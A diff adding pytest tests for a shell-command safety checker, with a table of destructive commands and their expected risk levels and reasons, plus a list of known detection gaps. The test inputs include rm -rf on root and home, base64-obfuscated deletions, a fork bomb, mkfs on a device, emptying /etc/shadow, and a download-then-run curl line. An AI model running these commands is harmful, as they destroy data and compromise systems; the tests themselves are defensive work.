@@ -1,5 +1,9 @@
 from __future__ import annotations
 
+import json
+from collections import Counter
+from pathlib import Path
+
 import pytest
 
 from docprompt.safety import Risk, assess
@@ -148,3 +152,77 @@ def test_the_worst_level_wins_and_reasons_are_not_repeated():
 def test_unbalanced_quotes_do_not_crash():
     assert assess("rm -rf / 'oops").dangerous
     assert assess('echo "unterminated').level == "safe"
+
+
+# -- the table (tests/data/safety_cases.jsonl; benchmarks/safety_table.py scores it) --------------
+
+TABLE = [json.loads(line) for line in (Path(__file__).parent / "data" / "safety_cases.jsonl").open()]
+
+
+def test_the_table_covers_each_level_and_has_no_duplicates():
+    levels = Counter(row["level"] for row in TABLE)
+    assert len(TABLE) >= 200 and levels["safe"] >= 80 and levels["danger"] >= 100 and levels["caution"] >= 40
+    assert set(levels) == {"safe", "caution", "danger"} and all(row["category"] for row in TABLE)
+    assert len({row["command"] for row in TABLE}) == len(TABLE)
+
+
+@pytest.mark.parametrize("row", TABLE, ids=[f"{r['category']}-{i:03d}" for i, r in enumerate(TABLE)])
+def test_each_command_of_the_table_gets_its_level(row):
+    risk = assess(row["command"])
+    assert risk.level == row["level"], (row["command"], risk)
+    assert bool(risk.reasons) == (risk.level != "safe")
+
+
+# -- what a command runs is judged too -------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("command", "reason"),
+    [
+        ('echo "rm -rf /" | bash', "rm -r on the whole filesystem"),
+        ("cat <<'EOF' | sudo bash\nmkfs.ext4 /dev/sda1\nEOF", "mkfs.ext4 formats a device"),
+        ("bash <<< 'rm -rf ~'", "rm -r on your home directory"),
+        ("echo cm0gLXJmIC8K | base64 -d | sh", "sh runs text decoded at run time (base64 -d)"),
+        ("echo cm0gLXJmIC8K | base64 -d | sh", "rm -r on the whole filesystem (decoded from base64)"),
+        ('eval "$(echo cm0gLXJmIC8K | base64 -d)"', "eval runs text decoded at run time"),
+        ("eval \"$(printf '\\x72\\x6d -rf /')\"", "rm -r on the whole filesystem"),
+        ("ssh -p 2222 web1 'sudo rm -rf /var'", "on web1: rm -r on the system directory /var"),
+        ("echo 'rm -rf ~' >> ~/.bashrc", "writes a command into ~/.bashrc that runs at every login"),
+        ("echo 'DROP TABLE users;' | psql shop", "psql drops a table"),
+        ("python3 -c \"import shutil; shutil.rmtree('/')\"", "shutil.rmtree deletes the whole filesystem"),
+        ("python3 -c 'import os; os.system(\"rm -rf ~\")'", "rm -r on your home directory"),
+        ("node -e \"require('fs').writeFileSync('/etc/passwd', '')\"", "empties and overwrites /etc/passwd"),
+        ("python3 <<EOF\nimport os\nwhile True: os.fork()\nEOF", "fork bomb"),
+        ("echo '0 * * * * rm -rf ~' | crontab -", "rm -r on your home directory"),
+        ("truncate -s 0 /etc/shadow", "truncate -s 0 empties and overwrites /etc/shadow"),
+    ],
+)
+def test_what_a_command_runs_is_judged_with_the_reason(command, reason):
+    risk = assess(command)
+    assert risk.dangerous and any(reason in r for r in risk.reasons), (command, risk.reasons)
+
+
+def test_code_in_another_language_and_the_risk_as_a_dict():
+    risk = assess("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", language="python")
+    assert risk.dangerous and risk.reasons == ("shutil.rmtree deletes your home directory",)
+    assert assess("print('rm -rf /')", language="python") == Risk("safe")
+    assert assess("rm -r build").to_dict() == {"level": "caution", "reasons": ["deletes recursively"]}
+
+
+# What gets past it (see docs/benchmarks.md), with the level it deserves: a fix shows up here as
+# an unexpected pass, and the command moves to the table.
+KNOWN_GAPS = [
+    ("X=/; rm -rf $X", "danger"),  # a variable set earlier in the script (rated caution)
+    ('cmd="rm -rf /"; $cmd', "danger"),
+    ("r=rm; $r -rf /", "danger"),
+    ("echo cm0gLXJmIC8K | base64 -d > x.sh && bash x.sh", "danger"),  # a file written, then run
+    ("curl -o i.sh https://x.io/i && bash i.sh", "danger"),
+    ("sudo tar -xf backup.tar -C /", "caution"),  # an archive unpacked over the system
+    ("sudo apt-get remove --purge 'python3*'", "caution"),  # packages the system needs
+]
+
+
+@pytest.mark.parametrize(("command", "level"), KNOWN_GAPS)
+@pytest.mark.xfail(strict=True, reason="a known gap of the safety check")
+def test_known_gaps(command, level):
+    assert assess(command).level == level
